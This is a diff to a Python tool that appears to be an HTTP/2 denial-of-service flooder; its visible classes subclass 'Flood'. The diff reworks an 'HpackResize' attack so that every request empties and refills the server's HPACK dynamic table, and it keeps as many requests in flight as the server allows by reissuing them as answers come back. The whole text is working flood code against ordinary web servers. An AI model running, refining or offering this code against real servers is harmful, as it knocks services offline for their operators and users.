@@ -195,13 +195,28 @@ class HpackBomb(Flood):
 
 
 class HpackResize(Flood):
+    """Empties and fills the dynamic table with every request; as many requests at a time as any server allows."""
+
     def frames(self, line):
+        line.state.update(stream=1, owed=64)
+        yield from self.requests(line)
+
+    def requests(self, line):
         fill = b"".join(b"\x40\x04x-%02d\x0a0123456789" % number for number in range(40))
         # Two size updates at the beginning of a block are allowed (RFC 7541 section 4.2): to 0, and back to 4096.
-        block = b"\x20\x3f\xe1\x1f" + self.block() + fill
-        for stream in range(1, 2**31 - 1, 2):
-            self.counts["frames sent"] += 2
-            yield raw(HEADERS, 5, stream, block) + raw(RST_STREAM, 0, stream, b"\0\0\0\x08")
+        block = b"\x20\x3f\xe1\x1f" + self.block("HEAD") + fill
+        while line.state["owed"]:
+            line.state["owed"] -= 1
+            self.counts["frames sent"] += 1
+            yield raw(HEADERS, 5, line.state["stream"], block)
+            line.state["stream"] += 2
+
+    def received(self, line, data):
+        before = self.counts["answers"]
+        super().received(line, data)
+        line.state["owed"] = line.state.get("owed", 0) + self.counts["answers"] - before
+        if line.chunks is None and line.state["owed"]:
+            line.chunks = self.requests(line)
 
 
 class SilentBodies(Flood):
